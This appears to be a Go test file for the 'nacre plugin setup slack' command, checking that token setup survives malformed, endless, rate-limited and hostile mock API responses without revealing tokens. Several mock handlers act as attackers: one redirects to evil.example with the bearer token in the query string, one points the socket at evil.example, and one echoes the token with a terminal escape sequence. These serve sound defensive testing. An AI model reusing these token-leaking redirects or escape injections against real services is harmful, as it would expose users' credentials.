package main_test

import (
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/gorilla/websocket"
)

// setsUp gives the tokens to nacre plugin setup slack, a line each, before an API that answers
// as it likes.
func setsUp(t *testing.T, api http.HandlerFunc, tokens ...string) (i *installation, said string, code int) {
	t.Helper()
	server := httptest.NewServer(api)
	t.Cleanup(server.Close)
	i = install(t)
	address := server.Listener.Addr().String()
	i.config(fmt.Sprintf("[access.slack]\nhosts = [\"api.example.com:80/http\", \"socket.example.com:81/tcp\"]\n"+
		"[egress.pin]\n\"api.example.com:80\" = %q\n\"socket.example.com:81\" = %q\n[plugins.slack]\napi = \"http://api.example.com/api\"\n", address, address))
	setup := i.command(filepath.Join(bin, "nacre"), "plugin", "setup", "slack")
	setup.Stdin = strings.NewReader(strings.Join(tokens, "\n") + "\n")
	out, _ := setup.CombinedOutput() // its code says it
	return i, string(out), setup.ProcessState.ExitCode()
}

// M-48: nacre plugin setup slack keeps the tokens, and tries them at once: both, and the way to
// the socket. Whatever a Slack answers, the command ends with a sentence, and no token is shown.
func TestSlackIsSetUp(t *testing.T) {
	t.Parallel()
	says := func(text string) http.HandlerFunc {
		return func(w http.ResponseWriter, _ *http.Request) { _, _ = fmt.Fprint(w, text) }
	}
	slack := &workspace{at: "socket.example.com:81", sockets: map[*websocket.Conn]bool{}}
	for name, c := range map[string]struct {
		api  http.HandlerFunc
		bot  string
		app  string
		code int
		want string
	}{
		"good tokens":               {slack.ServeHTTP, slackBot, slackApp, 0, "its credentials and its network are in order"},
		"a token of nobody's":       {slack.ServeHTTP, "xoxb-11-22-quiet-harbour-other", slackApp, 3, "Slack does not know bot_token"},
		"another app's token":       {slack.ServeHTTP, slackBot, "xapp-1-A2-quiet-harbour-other", 3, "Slack does not know app_token"},
		"tokens in the other order": {slack.ServeHTTP, slackApp, slackBot, 3, "bot_token is not one that begins with xoxb-"},
		"one of two":                {slack.ServeHTTP, slackBot, "", 0, "still missing"},
		"an API that is none":       {says("<html>quiet</html>"), slackBot, slackApp, 3, "does not work with them"},
		"an answer without an end": {func(w http.ResponseWriter, r *http.Request) {
			for r.Context().Err() == nil {
				if _, err := w.Write([]byte(strings.Repeat(`{"ok":`, 1<<10))); err != nil {
					return
				}
			}
		}, slackBot, slackApp, 3, "does not work with them"},
		"an answer that says the token": {func(w http.ResponseWriter, r *http.Request) {
			_, _ = fmt.Fprintf(w, `{"ok":false,"error":%q}`, strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer ")+"\x1b[2J")
		}, slackBot, slackApp, 3, "does not work with them"},
		"an answer that sends elsewhere": {func(w http.ResponseWriter, r *http.Request) {
			http.Redirect(w, r, "http://evil.example/?"+r.Header.Get("Authorization"), http.StatusTemporaryRedirect)
		}, slackBot, slackApp, 3, "does not work with them"},
		"a service without words": {func(w http.ResponseWriter, _ *http.Request) {
			if c, _, err := w.(http.Hijacker).Hijack(); err == nil {
				_ = c.Close()
			}
		}, slackBot, slackApp, 3, "does not work with them"},
		"a limit of calls": {func(w http.ResponseWriter, _ *http.Request) {
			w.Header().Set("Retry-After", "3600")
			w.WriteHeader(http.StatusTooManyRequests)
		}, slackBot, slackApp, 3, "does not work with them"},
		"a socket elsewhere": {func(w http.ResponseWriter, r *http.Request) {
			_, _ = fmt.Fprint(w, `{"ok":true,"team_id":"T1","user_id":"U0BOT","url":"ws://evil.example/link"}`)
		}, slackBot, slackApp, 3, "socket was not reached"},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			i, said, code := setsUp(t, c.api, c.bot, c.app)
			if code != c.code || !strings.Contains(said, c.want) {
				t.Errorf("exit %d, want %d and %q: %s", code, c.code, c.want, said)
			}
			hasNo(t, said, "quiet-harbour", "\x1b", "ERROR: NETWORK", "ERROR: AUTH")
			hasNoSecret(t, i.state(), "quiet-harbour")
			if info, err := os.Stat(filepath.Join(i.work, "home/.config/nacre/credentials/slack/bot_token")); err != nil || info.Mode().Perm() != 0o600 {
				t.Errorf("the token is not kept: %v", err)
			}
		})
	}
}
